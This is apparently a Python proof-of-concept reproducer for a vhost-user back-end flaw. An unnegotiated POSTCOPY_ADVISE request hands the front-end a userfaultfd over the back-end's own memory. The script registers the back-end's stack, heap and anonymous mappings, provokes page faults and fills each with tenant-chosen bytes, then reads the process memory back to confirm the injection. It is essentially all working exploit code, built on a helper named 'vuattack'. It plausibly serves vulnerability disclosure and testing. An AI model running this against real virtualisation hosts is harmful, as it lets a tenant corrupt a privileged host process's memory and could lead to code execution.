#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""POSTCOPY_ADVISE answered although VHOST_USER_PROTOCOL_F_PAGEFAULT was
never negotiated: the front-end receives a userfaultfd of the back-end's own
address space, and with it answers the back-end's page faults.

vu_process_message() dispatches VHOST_USER_POSTCOPY_ADVISE to
vu_set_postcopy_advise() whatever the negotiated protocol features; that
creates a userfaultfd in the back-end (syscall(__NR_userfaultfd)), completes
UFFDIO_API and sends the fd to the front-end.  The userfaultfd's ioctls act
on the address space of the process that created it (the back-end), so the
front-end can UFFDIO_REGISTER any anonymous range of the back-end
(MODE_MISSING) and resolve the faults that follow with UFFDIO_COPY of bytes
of its choice.  Here: the back-end's main stack ([stack]), heap
([heap]) and anonymous private mappings (thread and coroutine stacks, malloc
arenas) are registered, the back-end is made to work (a device set up, reads, then
a descriptor chain with a bad next index: the error message is formatted
deeper on the stack than anything before), every fault is answered with a page of 'T' bytes, and the
back-end's memory is then read back (/proc/PID/mem) to show the tenant's
bytes in it.

A real front-end cannot read /proc/PID/maps of the back-end; it finds
mapped ranges by probing with UFFDIO_REGISTER itself (EINVAL/ENOMEM for
unmapped ranges), which this reproducer does not need to show.

usage: repro_postcopy.py SOCKET QSD_PID
"""
import fcntl
import os
import select
import struct
import time

from _common import args, say, vuattack as vu

UFFDIO_REGISTER = 0xC020AA00
UFFDIO_COPY = 0xC028AA03
UFFDIO_REGISTER_MODE_MISSING = 1
UFFD_EVENT_PAGEFAULT = 0x12
PAGE = 4096

sock, pid = args(2)
pid = int(pid)
c = vu.Conn(sock, timeout=3)
c.negotiate()       # PAGEFAULT (bit 8) not taken
say("negotiated protocol features %#x (PAGEFAULT bit 8: %s)" % (c.protocol,
                                                               bool(c.protocol >> 8 & 1)))
c.send(vu.POSTCOPY_ADVISE)
req, flags, payload, fds = c.recv()
if not fds:
    say("POSTCOPY_ADVISE -> no fd (size %d)" % len(payload))
    raise SystemExit(0)
ufd = fds[0]
say("POSTCOPY_ADVISE -> fd %d: %s" % (ufd, os.readlink("/proc/self/fd/%d" % ufd)))

ranges = []
for line in open("/proc/%d/maps" % pid):
    p = line.split()
    if p[1] != "rw-p" or (len(p) >= 6 and p[5] not in ("[stack]", "[heap]")):
        continue
    lo, hi = (int(x, 16) for x in p[0].split("-"))
    ranges.append((p[5] if len(p) >= 6 else "anonymous", lo, hi))
for name, lo, hi in ranges:
    arg = bytearray(struct.pack("<QQQQ", lo, hi - lo, UFFDIO_REGISTER_MODE_MISSING, 0))
    try:
        fcntl.ioctl(ufd, UFFDIO_REGISTER, arg)
        registered = globals().setdefault("registered", [])
        registered.append(name)
    except OSError as e:
        say("UFFDIO_REGISTER %s %#x-%#x: %s" % (name, lo, hi, e))
say("UFFDIO_REGISTER (MODE_MISSING) in pid %d: %d ranges: %s" % (
    pid, len(registered), ", ".join(sorted(set(registered)))))

page = vu.Memory(PAGE, "tenant-page")
page.write(0, b"T" * PAGE)
faults = []


def answer(deadline):
    while time.monotonic() < deadline:
        r, _, _ = select.select([ufd], [], [], 0.05)
        if not r:
            return
        try:
            msg = os.read(ufd, 32)
        except BlockingIOError:
            continue
        if msg[0] != UFFD_EVENT_PAGEFAULT:
            continue
        addr = struct.unpack("<Q", msg[16:24])[0] & ~(PAGE - 1)
        arg = bytearray(struct.pack("<QQQQq", addr, page.base, PAGE, 0, 0))
        try:
            fcntl.ioctl(ufd, UFFDIO_COPY, arg)
        except OSError as e:
            say("UFFDIO_COPY %#x: %s" % (addr, e))
        name = next((n for n, lo, hi in ranges if lo <= addr < hi), "?")
        faults.append((name, addr))


# Make the back-end work while answering its faults: a device set up and
# reads submitted (each takes the main loop through fresh stack and heap).
end = time.monotonic() + 4
try:
    mem = vu.Memory(1 << 20)
    c.call(vu.SET_MEM_TABLE, vu.mem_table([mem.region()]), [mem.fd], ack=True)
    answer(time.monotonic() + 0.2)
    q = vu.Queue(mem, 0, 16)
    q.setup(c)
    for _ in range(3):
        vu.blk_request(q, vu.BLK_T_IN, 0, 4096)
        answer(time.monotonic() + 0.3)
        c.sync()
    # An error found deep in the data path runs deeper on the stack than
    # anything before: a descriptor whose next index is out of range makes
    # vu_queue_map_desc() call vu_panic() -> vasprintf() -> error_report().
    q.put_desc(mem.addr(mem.alloc(16)), 16, vu.DESC_F_NEXT, 999)
    q.publish((q.next_desc - 1) % q.num)
    answer(time.monotonic() + 1.0)
except (vu.Closed, vu.Timeout, MemoryError) as e:
    say("while provoking faults: %s: %s" % (type(e).__name__, e))
answer(time.monotonic() + 0.5)
say("page faults of pid %d answered with the tenant's page: %d (%s)" % (
    pid, len(faults), ", ".join("%s %#x" % f for f in faults[:6])))
shown = 0
with open("/proc/%d/mem" % pid, "rb") as m:
    for name, addr in faults:
        try:
            m.seek(addr)
            data = m.read(PAGE)
        except OSError:
            continue
        n = data.count(b"T")
        if n > PAGE // 2:
            say("pid %d %s page %#x now holds %d of 4096 bytes 'T' from the tenant" % (
                pid, name, addr, n))
            shown += 1
            if shown >= 3:
                break
os.close(ufd)
